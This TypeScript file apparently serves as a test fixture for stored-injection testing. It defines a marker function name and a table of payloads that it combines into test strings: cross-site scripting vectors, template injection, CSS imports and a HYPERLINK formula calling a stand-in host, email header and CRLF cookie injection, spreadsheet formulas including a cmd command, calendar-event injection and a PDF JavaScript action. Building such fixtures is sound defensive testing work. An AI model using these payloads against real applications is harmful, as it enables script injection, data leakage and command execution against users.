/** In every payload: what is found of it was stored. A script that runs calls a function of this name. */
export const mark = 'zqpiege';

const run = `${mark}()`;
const away = `${mark}.example`;

/** Stored attack payloads, grouped by target: a browser, a mail program or another program. */
const payloads: Readonly<Record<string, string>> = {
  script: `<script>${run}</script>`,
  'end of a script': `</script><script>${run}</script>`,
  'a script of a module': `<script nonce="" type="module">${run}</script>`,
  'a handler': `<img src=x onerror=${run}>`,
  'a drawing': `<svg/onload=${run}><animate onbegin=${run} attributeName=x dur=1s>`,
  'ends of texts': `</title></textarea></style></noscript><svg onload=${run}>`,
  'end of an attribute': `"><svg/onload=${run}>`,
  'another attribute': `" autofocus onfocus="${run}" ${mark}="`,
  'another attribute, single': `' autofocus onfocus='${run}' ${mark}='`,
  'an own element': `<${mark} ${mark}=1>`,
  'a comment': `<!--<script>--><script>${run}</script><!--`,
  'character data': `]]><script>${run}</script><![CDATA[`,
  'machine data': `"}</script><script>${run}</script>{"a":"`,
  'an address that runs': `javascript:${run}`,
  'an address that is data': `data:text/html,<script>parent.${run}</script>`,
  'a frame': `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe>`,
  'another base': `<base href="//${away}/"><a href="javascript:${run}">x</a>`,
  'a form': `<form action="https://${away}/"><button formaction="javascript:${run}">`,
  entities: `&lt;script&gt;${run}&#x3c;/script&#x3e;`,
  escapes: `\\u003cscript\\u003e${run}\\u003c/script\\u003e\\"-${run}-\\'`,
  'a template': `{{constructor.constructor("${run}")()}}\${${run}}<%= ${run} %>`,
  styles: `red;}</style><style>@import "//${away}/a";x{background:url(//${away}/b)}`,
  marks: `[${mark}](javascript:${run})![x](https://${away}/c.png)`,
  'line separators': `${mark}\u2028${run}\u2029//`,
  'signs that turn the writing': `\u202e${mark}\u2066<\u2069\u200b`,
  'another header': `${mark}\r\nBcc: vole@${away}\r\n\r\n<script>${run}</script>`,
  'another header, encoded': `${mark}%0d%0aSet-Cookie:%20${mark}=1%0d%0a%0d%0a<b>`,
  'another mail': `${mark}@${away}>,<vole@${away}`,
  'a formula': `=cmd|' /C ${mark}'!A1`,
  'a formula, plus': `+${mark}+1`,
  'a formula, minus': `-${mark}-1`,
  'a formula, at': `@SUM(${mark})`,
  'a formula after a tab': `\t=HYPERLINK("https://${away}";"${mark}")`,
  'a formula in a cell of its own': `x";=${mark};"`,
  'another event': `${mark}\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:${mark}\r\nSUMMARY:${mark}`,
  'another event, escaped': `${mark}\\nBEGIN:VEVENT\\nX-${mark};X=1:,`,
  'of a PDF': `) Tj ET /OpenAction << /S /JavaScript /JS (${run}) >> endobj (`,
};

const several = 3;
const isFormula = (text: string) => /^[=+\-@\t]/.test(text);
const isOfLines = (text: string) => /[\r\n\u2028\u2029]/.test(text);

/** All payloads, three in each text: one that is a formula at its beginning, those of several lines among themselves. */
export const texts: readonly string[] = (() => {
  const all = Object.values(payloads);
  const heads = all.filter((text) => isFormula(text) && !isOfLines(text));
  const others = all.filter((text) => !isFormula(text) && !isOfLines(text));
  const made: string[] = [all.filter(isOfLines).join(' ')];
  while (heads.length > 0 || others.length > 0) {
    const first = heads.splice(0, 1);
    made.push([...first, ...others.splice(0, several - first.length)].join(' '));
  }
  return made;
})();
